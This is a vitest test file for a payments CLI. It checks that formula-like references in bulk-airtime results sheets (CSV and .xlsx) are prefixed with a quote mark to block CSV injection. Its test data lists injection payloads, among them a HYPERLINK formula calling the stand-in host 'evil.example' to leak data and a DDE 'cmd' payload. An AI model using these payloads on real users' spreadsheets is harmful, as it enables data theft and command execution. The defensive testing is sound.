import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { airtimeBulkCommand, runBulk } from '../../src/cli/bulk/run-bulk.js';
import { readCsvLines } from '../../src/spreadsheets/csv.js';
import { captureIo } from '../reconciler-cli/harness.js';
import { cliEnv, fundAirtime, msisdnFor, readXlsx } from './bulk-files.js';
import { sandboxAndDirectoryPerTest } from './sandbox-per-test.js';

// The results sheet `pesakit airtime bulk --out` writes is
// opened in a spreadsheet program. The `reference` column is copied from the input file, which
// a merchant often builds from text others typed (a staff list, a form); a reference starting
// with `=`, `+`, `-`, `@` (or a tab, which the reader trims away) was written as is, and Excel
// runs such a CSV cell as a formula (CSV injection). Only the platform's `message` was made inert.

const each = sandboxAndDirectoryPerTest();

const references = [
  '=HYPERLINK("http://evil.example/?leak","click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
];

/** The input file: one row per dangerous reference, each quoted the way RFC 4180 writes it. */
function inputCsv(): string {
  const lines = ['msisdn,amount,reference'];
  references.forEach((reference, index) => {
    lines.push(`${msisdnFor(index + 1)},1000,"${reference.replaceAll('"', '""')}"`);
  });
  return `${lines.join('\r\n')}\r\n`;
}

async function runTo(out: string): Promise<void> {
  await fundAirtime(each.harness, 50_000);
  const file = join(each.directory.path, 'staff.csv');
  writeFileSync(file, inputCsv());
  const io = captureIo(cliEnv(each.harness, 'airtime'));
  const code = await runBulk(
    airtimeBulkCommand,
    file,
    {
      environment: 'sandbox',
      store: join(each.directory.path, 'payments.sqlite'),
      storeFromArgv: true,
      out: join(each.directory.path, out),
    },
    io,
  );
  expect(code, io.err.text).toBe(0);
}

describe('the results sheet keeps formula-like references as text', () => {
  it('in a CSV, every reference cell starts with a quote mark, the rest as written', async () => {
    await runTo('results.csv');
    const { lines } = readCsvLines(
      readFileSync(join(each.directory.path, 'results.csv'), 'utf8'),
      100,
    );
    const column = lines[0]?.cells.indexOf('reference') ?? -1;
    expect(column).toBeGreaterThan(0);
    const written = lines.slice(1).map((line) => line.cells[column]);
    expect(written).toEqual(references.map((reference) => `'${reference.trim()}`));
    for (const cell of written) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('in an .xlsx, the same', async () => {
    await runTo('results.xlsx');
    const rows = await readXlsx(readFileSync(join(each.directory.path, 'results.xlsx')));
    expect(rows.map((row) => row['reference'])).toEqual(
      references.map((reference) => `'${reference.trim()}`),
    );
  });
});
